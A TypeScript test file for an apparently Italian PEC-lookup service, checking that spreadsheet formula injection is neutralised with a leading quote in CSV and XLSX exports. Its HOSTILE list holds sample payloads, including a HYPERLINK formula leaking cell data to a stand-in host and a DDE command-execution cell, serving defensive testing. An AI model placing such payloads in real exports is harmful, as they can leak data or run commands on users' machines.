import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createHarness, type Harness } from '../helpers/services.ts';
import { batchClient, csvRows, xlsxRows } from './batch-http.ts';
import { writeCsvOutput } from '../../src/client/write-csv-output.ts';
import { writeXlsxOutput } from '../../src/client/write-xlsx-output.ts';
import { defuseFormula } from '../../src/security/defuse-formula.ts';

/**
 * Results echo the customer's own cells: a cell that a spreadsheet would run as a formula comes
 * back prefixed with a single quote (OWASP, CSV injection), in the server's batch results and in
 * the client program's outputs, CSV and XLSX (issue 15, item 7). Codes and PECs are untouched.
 */
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\tTAB', '\r=CR'];
const REZZOAGLIO = '82003050109';
/** XML turns a stored CR into LF when read back: what counts is the quote in front. */
const defusedInXlsx = HOSTILE.map((cell) => `'${cell.replace('\r', '\n')}`);

describe('formula injection', () => {
  test('defuseFormula prefixes exactly the dangerous starts', () => {
    for (const cell of HOSTILE) assert.equal(defuseFormula(cell), `'${cell}`);
    for (const cell of ['82003050109', 'protocollo@pec.comune.rezzoaglio.ge.it', 'Comune di Rezzoaglio', '', ' =spazio', "'già"])
      assert.equal(defuseFormula(cell), cell);
  });

  describe('server batch results', () => {
    let h: Harness;
    let client: ReturnType<typeof batchClient>;
    let batchId: string;
    before(async () => {
      h = await createHarness('sqlite');
      const account = await h.account();
      client = batchClient(await h.app.listen({ port: 0, host: '127.0.0.1' }), account.key);
      const quote = (s: string) => `"${s.replaceAll('"', '""')}"`;
      const csv = 'codice,=nota\n' + HOSTILE.map((cell) => `${REZZOAGLIO},${quote(cell)}\n`).join('');
      const created = await client.upload(csv, 'text/csv');
      assert.equal(created.status, 202, JSON.stringify(created.body));
      batchId = created.body.id;
    });
    after(() => h.close());

    test('CSV', async () => {
      const r = await client.get(`/v1/batches/${batchId}/results?format=csv`);
      const rows = csvRows(r.body);
      assert.deepEqual(rows[0].slice(0, 2), ['codice', "'=nota"]);
      assert.deepEqual(
        rows.slice(1).map((row) => row[1]),
        HOSTILE.map((cell) => `'${cell}`),
      );
      assert.ok(
        rows.slice(1).every((row) => row[0] === REZZOAGLIO && row[2] === REZZOAGLIO),
        'codes untouched',
      );
    });

    test('XLSX', async () => {
      const r = await client.get(`/v1/batches/${batchId}/results?format=xlsx`);
      const rows = await xlsxRows(r.body);
      assert.equal(rows[0][1], "'=nota");
      assert.deepEqual(
        rows.slice(1).map((row) => row[1]),
        defusedInXlsx,
      );
    });

    test('JSON keeps the text as it was (no spreadsheet reads it)', async () => {
      const r = await client.get(`/v1/batches/${batchId}/results?format=json`);
      assert.deepEqual(
        r.body.map((row: any) => row.input['=nota']),
        HOSTILE,
      );
    });
  });

  describe('client program outputs', () => {
    const dir = mkdtempSync(join(tmpdir(), 'cercapec-formula-'));
    after(() => rmSync(dir, { recursive: true, force: true }));
    const columns = ['=titolo', 'codice', 'importo', 'pec'];
    const rows = () => HOSTILE.map((cell) => [cell, REZZOAGLIO, -5, 'protocollo@pec.comune.rezzoaglio.ge.it']);

    test('CSV', async () => {
      const path = join(dir, 'out.csv');
      await writeCsvOutput(path, columns, rows(), ';');
      const read = csvRows(readFileSync(path, 'utf8'), ';');
      assert.deepEqual(read[0], ["'=titolo", 'codice', 'importo', 'pec']);
      assert.deepEqual(
        read.slice(1).map((row) => row[0]),
        HOSTILE.map((cell) => `'${cell}`),
      );
      assert.deepEqual(read[1].slice(1), [REZZOAGLIO, '-5', 'protocollo@pec.comune.rezzoaglio.ge.it'], 'a number stays a number');
    });

    test('XLSX', async () => {
      const path = join(dir, 'out.xlsx');
      await writeXlsxOutput(path, columns, rows(), 'Risultati');
      const read = await xlsxRows(readFileSync(path));
      assert.equal(read[0][0], "'=titolo");
      assert.deepEqual(
        read.slice(1).map((row) => row[0]),
        defusedInXlsx,
      );
      assert.equal(read[1][2], '-5');
    });
  });
});
